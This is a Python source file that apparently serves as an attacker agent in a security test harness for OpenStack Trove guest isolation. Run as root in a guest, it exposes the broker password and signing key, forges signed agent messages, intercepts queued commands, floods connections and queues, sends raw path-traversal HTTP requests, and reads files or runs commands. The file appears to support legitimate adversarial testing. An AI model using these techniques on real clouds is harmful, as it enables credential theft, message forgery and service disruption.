"""What root in a guest can do, as a program: copied into the attacker's guest by tools/attack and run there as root.

It uses the guest's own configuration files, its agent's code and its libraries, and speaks to the services of this
set-up alone. ``intruder.py serve`` answers on a Unix socket; ``intruder.py ask`` hands over a JSON list of moves from
standard input and prints the list of their results: {"ok": value}, {"refused": text} or {"error": traceback}.

A move is {"do": name of a function below, its arguments}. Numbers, sizes and times are bounded by ``_MOST``.
"""
import base64
import configparser
import contextlib
import http.client
import inspect
import json
import re
import socket
import ssl
import subprocess
import sys
import time
import traceback
import uuid
from pathlib import Path

SOCKET = "/run/intruder.sock"
LIBRARIES, CONFIGURATION = "/opt/trove/lib", "/etc/trove/conf.d"
UNIT = "trove-guestagent.service"
# Things of one kind that one move opens or sends, bytes of one message, and seconds for one answer.
_MOST, _LARGEST, _PATIENCE = 5000, 20 * 1024 * 1024, 8


class Bus:
    """The agent's code, and connections of our own with the agent's account."""

    def __init__(self):
        sys.path.insert(0, LIBRARIES)
        from trove import rpc
        from trove.cmd import guest
        from trove.common import cfg, context
        from trove.conductor import api
        guest.read_configuration([])
        # Whichever this agent's code has: what fits the library to the rights of a guest's account.
        for name, arguments in (("become_guest", (cfg.CONF.guest_id,)), ("never_declare_exchange", ())):
            if hasattr(rpc, name):
                getattr(rpc, name)(*arguments)
        self.rpc, self.conf, self.context, self.conductor = rpc, cfg.CONF, context.TroveContext, api
        import amqp
        import kombu.messaging
        self.amqp, self.producer = amqp, kombu.messaging.Producer
        self._connection = None

    def connect(self, user=None, password=None, vhost=None):
        """Return a new connection, with the guest's own account by default."""
        url = self.rpc.messaging.TransportURL.parse(self.conf)
        host = url.hosts[0]
        connection = self.amqp.Connection(
            host=f"{host.hostname}:{host.port}", userid=user or host.username, password=password or host.password,
            login_method="PLAIN", virtual_host=vhost or url.virtual_host or "/", ssl=_tls(host.hostname),
            connect_timeout=_PATIENCE, read_timeout=_PATIENCE, write_timeout=_PATIENCE, confirm_publish=True)
        connection.connect()
        return connection

    def channel(self):
        """Return a fresh channel of the one connection that is kept during an ask."""
        if self._connection is None or not self._connection.connected:
            self._connection = self.connect()
        return self._connection.channel()

    def close(self):
        """Close the connections of an ask."""
        connection, self._connection = self._connection, None
        _close(connection)
        self.rpc.cleanup()

    def capture(self, method, args, sent=None, key=None, context=None):
        """Return the message that the agent's own code would send for a report; send nothing.

        key: sign with this one instead of the guest's own; sent: seconds since the epoch; context: keys to set in it.
        """
        caught, publish = [], self.producer._publish
        signature = inspect.signature(publish)

        def catch(*arguments, **options):
            given = signature.bind(*arguments, **options).arguments
            more = {name: value for name, value in given["properties"].items() if isinstance(value, (str, int))}
            caught.append({"body": base64.b64encode(_bytes(given["body"])).decode(), "exchange": given["exchange"],
                           "key": given["routing_key"], "properties": {
                               **more, "content_type": given["content_type"],
                               "content_encoding": given["content_encoding"],
                               **({"application_headers": dict(given["headers"])} if given["headers"] else {})}})

        if key:
            self.conf.set_override("guest_key", key)
        self.producer._publish = catch
        try:
            speaker = self.context(overwrite=False, **(context or {}))
            getattr(self.conductor.API(speaker), method)(**args, sent=sent)
        finally:
            self.producer._publish = publish
            self.conf.clear_override("guest_key")
        for message in caught:
            message["exchange"] = getattr(message["exchange"], "name", message["exchange"])
        return caught[0]

    # ------------------------------------------------------------------ moves

    def do_report(self, **report):
        return self.capture(**report)

    def do_facts(self):
        """Return who this guest is: its id and key, its account, and the broker."""
        url = self.rpc.messaging.TransportURL.parse(self.conf)
        host = url.hosts[0]
        # The routing key of answers; without one they go to the reply queue by its name.
        key = self.rpc.reply_key(self.conf.guest_id, "QUEUE") if hasattr(self.rpc, "reply_key") else "QUEUE"
        return {"guest_id": self.conf.guest_id, "guest_key": self.conf.guest_key, "account": host.username,
                "password": host.password, "virtual_host": url.virtual_host or "/", "reply_key": key,
                "host": host.hostname, "port": host.port}

    def do_send(self, body, exchange, key, properties=None, times=1):
        """Publish with the broker's confirmation; body: base64. Return how many it gave back as unroutable."""
        channel, returned = self.channel(), []
        channel.events["basic_return"].add(lambda *arguments: returned.append(arguments))
        data = base64.b64decode(body)[:_LARGEST]
        for number in range(min(times, _MOST)):
            if number:  # the library skips what has the same id as one of the last
                data = re.sub(rb"(_unique_id[^0-9a-f]{2,8})[0-9a-f]{32}", rb"\g<1>" + uuid.uuid4().hex.encode(), data)
            channel.basic_publish(self.amqp.Message(data, **(properties or {})), exchange=exchange, routing_key=key,
                                  mandatory=True, timeout=_PATIENCE)
        channel.close()
        return {"returned": len(returned)}

    def do_amqp(self, call, **arguments):
        """Call one method of a channel, such as queue_bind."""
        channel = self.channel()
        if call == "basic_consume":
            arguments["callback"] = lambda message: None
        found = getattr(channel, call)(**arguments)
        with contextlib.suppress(Exception):
            channel.close()
        return str(found)[:300]

    def do_login(self, user=None, password=None, vhost=None):
        _close(self.connect(user, password, vhost))

    def do_connections(self, count):
        """Open that many connections; return how many were there at once, and what refused the next."""
        return _open(count, self.connect, _close)

    def do_channels(self, count):
        """Open that many channels on one connection."""
        connection = self.connect()
        try:
            return _open(count, connection.channel, lambda channel: None)
        finally:
            _close(connection)

    def do_queues(self, count, prefix):
        """Declare that many queues, then remove them; return how many could be declared."""
        connection, made = self.connect(), []

        def declare():
            made.append(f"{prefix}{len(made)}")
            connection.channel().queue_declare(queue=made[-1], durable=False, auto_delete=False)
        try:
            return _open(count, declare, lambda queue: None)
        finally:
            _close(connection)
            self._remove(made)

    def _remove(self, names):
        connection = self.connect()
        for name in names:
            with contextlib.suppress(Exception):
                connection.channel().queue_delete(queue=name)
        _close(connection)

    def do_get(self, seconds, acknowledge, wanted=None):
        """Take commands from the guest's own queues until the one named ``wanted`` has come; return the messages."""
        own, found = f"guestagent.{self.conf.guest_id}", []
        channel, end = self.channel(), time.monotonic() + min(seconds, 30)
        while time.monotonic() < end and not any(_names(message, wanted) for message in found):
            for queue in (own, f"{own}.{self.conf.guest_id}"):
                message = channel.basic_get(queue=queue, no_ack=False)
                if message is not None:
                    found.append({"body": base64.b64encode(_bytes(message.body)).decode(), "exchange": "",
                                  "key": queue, "tag": message.delivery_tag, "properties": {
                                      name: message.properties[name] for name in (
                                          "content_type", "content_encoding", "application_headers")
                                      if name in message.properties}})
            time.sleep(0.05)
        for message in found:
            tag = message.pop("tag")
            channel.basic_ack(tag) if acknowledge else channel.basic_reject(tag, requeue=True)
        channel.close()
        return found


def do_agent(action):
    """Stop the guest's agent at once, or start it again."""
    if action == "stop":
        subprocess.run(["systemctl", "kill", "--signal=KILL", UNIT], check=False, timeout=20)
    subprocess.run(["systemctl", action, UNIT], check=True, timeout=40, capture_output=True)


def do_tcp(host, port):
    """Open a TCP connection."""
    socket.create_connection((host, port), 1.5).close()


def do_http(method, url, headers=None, body=""):
    """Send one request with the path exactly as given; dot segments are not resolved."""
    scheme, _, rest = url.partition("://")
    place, _, path = rest.partition("/")
    kind = http.client.HTTPSConnection if scheme == "https" else http.client.HTTPConnection
    more = {"context": ssl.create_default_context()} if scheme == "https" else {}
    connection = kind(place, timeout=_PATIENCE, **more)
    try:
        connection.putrequest(method, f"/{path}", skip_accept_encoding=True)
        data = body.encode()
        for name, value in {"Content-Length": str(len(data)), **(headers or {})}.items():
            connection.putheader(name, value)
        connection.endheaders(data)
        answer = connection.getresponse()
        return {"status": answer.status, "body": answer.read(4000).decode(errors="replace"),
                "headers": dict(answer.getheaders())}
    finally:
        connection.close()


def do_files(paths):
    """Return the texts of all files below directories of this guest, at most 200,000 characters of each."""
    found = {}
    for path in paths:
        for file in [Path(path)] if Path(path).is_file() else sorted(Path(path).rglob("*")):
            with contextlib.suppress(OSError):
                if file.is_file() and not file.is_symlink():
                    found[str(file)] = file.read_text(errors="replace")[:200000]
    return found


def do_run(argv):
    """Run a command of the guest; return status and output."""
    done = subprocess.run(argv, capture_output=True, text=True, check=False, timeout=30)
    return {"status": done.returncode, "output": (done.stdout + done.stderr)[-4000:]}


def _open(count, make, close):
    made = []
    try:
        for _ in range(min(count, _MOST)):
            made.append(make())
        return {"opened": len(made), "refused": None}
    except Exception as error:  # noqa: BLE001 - whatever the library makes of the broker's refusal
        return {"opened": len(made), "refused": _text(error)}
    finally:
        for each in made:
            close(each)


def _tls(host):
    """Return the ssl argument of a connection, by the options of the agent's files; False without TLS."""
    parser = configparser.RawConfigParser(strict=False)
    parser.read(sorted(map(str, Path(CONFIGURATION).glob("*.conf"))))
    options = dict(parser.items("oslo_messaging_rabbit")) if parser.has_section("oslo_messaging_rabbit") else {}
    if options.get("ssl", "false").lower() not in ("true", "1", "yes"):
        return False
    names = {"ca_certs": "ssl_ca_file", "certfile": "ssl_cert_file", "keyfile": "ssl_key_file"}
    return {"cert_reqs": ssl.CERT_REQUIRED, "server_hostname": host,
            **{name: options[option] for name, option in names.items() if options.get(option)}}


def _bytes(body):
    return body if isinstance(body, bytes) else body.encode()


def _names(message, wanted):
    return wanted is None or wanted.encode() in base64.b64decode(message["body"])


def _close(connection):
    if connection is not None:
        with contextlib.suppress(Exception):
            connection.close()


def _text(error):
    return f"{type(error).__name__}: {error}"[:300]


def _carry_out(bus, move):
    name = f"do_{move.pop('do')}"
    function = getattr(bus, name, None) or globals()[name]
    try:
        return {"ok": function(**move)}
    except (bus.amqp.exceptions.AMQPError, OSError, http.client.HTTPException) as error:
        return {"refused": _text(error)}
    except Exception:  # noqa: BLE001 - told to the host as a fault of ours
        return {"error": traceback.format_exc()[-1500:]}


def serve():
    """Answer asks, one after the other, until the guest ends."""
    bus = Bus()
    with contextlib.suppress(FileNotFoundError):
        Path(SOCKET).unlink()
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(SOCKET)
        Path(SOCKET).chmod(0o600)
        listener.listen()
        while True:
            peer, _ = listener.accept()
            with peer, peer.makefile("rb") as reader, contextlib.suppress(OSError, ValueError):
                results = [_carry_out(bus, move) for move in json.loads(reader.readline())]
                bus.close()
                peer.sendall(json.dumps(results).encode() + b"\n")


def ask():
    """Hand standard input to the server, print its answer."""
    with socket.socket(socket.AF_UNIX) as peer:
        peer.connect(SOCKET)
        peer.sendall(json.dumps(json.load(sys.stdin)).encode() + b"\n")
        with peer.makefile("r") as reader:
            sys.stdout.write(reader.readline())


if __name__ == "__main__":
    if sys.argv[1] == "start":
        log = open("/run/intruder.log", "ab")  # noqa: SIM115 - the server's
        subprocess.Popen([sys.executable, "-I", __file__, "serve"], stdin=subprocess.DEVNULL, stdout=log, stderr=log,
                         start_new_session=True)
    else:
        {"serve": serve, "ask": ask}[sys.argv[1]]()
